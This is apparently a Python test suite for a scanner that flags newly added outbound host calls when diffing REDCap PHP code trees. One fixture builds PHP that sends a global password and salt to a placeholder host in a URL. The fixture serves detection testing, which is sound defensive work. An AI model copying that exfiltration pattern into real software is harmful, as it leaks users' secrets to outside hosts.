"""A host that is new is loud once in a file, a bundled package or a folder of tests."""

from __future__ import annotations

from pathlib import Path

from scanner.model.finding import Severity
from scanner.pipeline import ScanOptions, diff
from tests.pipeline.trees import write_tree

BASE = {"redcap_v1.0.0/index.php": b"<?php echo 1;"}
PACKAGE = "redcap_v1.0.0/Libraries/vendor/acme/ask"


def ask(*hosts: str) -> bytes:
    calls = "\n".join(f"$r{number} = file_get_contents('https://{host}/a');" for number, host in enumerate(hosts))
    return f"<?php\nfunction ask() {{\n{calls}\n}}\n".encode()


def loud(tmp_path: Path, files: dict[str, bytes], *, least: Severity = Severity.HIGH) -> list[tuple[str, int, str]]:
    """Path, line and first host of the new calls that are at least so loud."""
    for side, tree in (("old", BASE), ("new", BASE | files)):
        write_tree(tmp_path / side, tree)
    changes = diff(str(tmp_path / "old"), str(tmp_path / "new"), ScanOptions(cache=None, jobs=0)).changes
    return [
        (item.finding.path.removeprefix("redcap_v@/"), item.finding.line, item.finding.destinations[0])
        for item in changes
        if item.finding.destinations and item.finding.severity.rank <= least.rank
    ]


def test_in_one_file_a_new_host_is_loud_once_and_another_one_as_well(tmp_path: Path) -> None:
    hosts = ("one.example", "one.example", "two.example")
    files = {"redcap_v1.0.0/a.php": ask(*hosts)}
    assert loud(tmp_path, files) == [("a.php", 3, "one.example"), ("a.php", 5, "two.example")]
    assert len(loud(tmp_path, files, least=Severity.MEDIUM)) == len(hosts)


def test_each_file_of_ones_own_tells(tmp_path: Path) -> None:
    files = {f"redcap_v1.0.0/{name}.php": ask("one.example") for name in "ab"}
    assert loud(tmp_path, files) == [("a.php", 3, "one.example"), ("b.php", 3, "one.example")]


def test_a_package_tells_once_and_not_in_its_tests(tmp_path: Path) -> None:
    files = {f"{PACKAGE}/{name}.php": ask("one.example") for name in ("example/a", "src/b", "tests/c")}
    files[f"{PACKAGE}/tests/d.php"] = ask("only-in-tests.example")
    assert {host: path.rpartition("ask/")[2] for path, _, host in loud(tmp_path, files)} == {
        "one.example": "example/a.php",
        "only-in-tests.example": "tests/d.php",
    }


def test_a_secret_that_leaves_is_loud_each_time(tmp_path: Path) -> None:
    send = b"<?php\nfunction send() {\nfile_get_contents('https://one.example/?' . $GLOBALS['password']);\n"
    files = {"redcap_v1.0.0/a.php": send + b"file_get_contents('https://one.example/?a=' . $GLOBALS['salt']);\n}\n"}
    assert len(loud(tmp_path, files, least=Severity.CRITICAL)) == len(("password", "salt"))


def test_pages_in_tests_are_loud_once(tmp_path: Path) -> None:
    page = b"<?php\nclass T { function t() { return '<script src=\"https://%b/a.js\"></script>'; } }\n"
    hosts = (b"one.example", b"two.example")
    files = {f"redcap_v1.0.0/tests/{host.decode()}.php": page % host for host in hosts}
    assert loud(tmp_path, files) == [("tests/one.example.php", 2, "one.example")]
    files = {f"redcap_v1.0.0/pages/{host.decode()}.php": page % host for host in hosts}
    assert len(loud(tmp_path / "again", files)) == len(hosts)
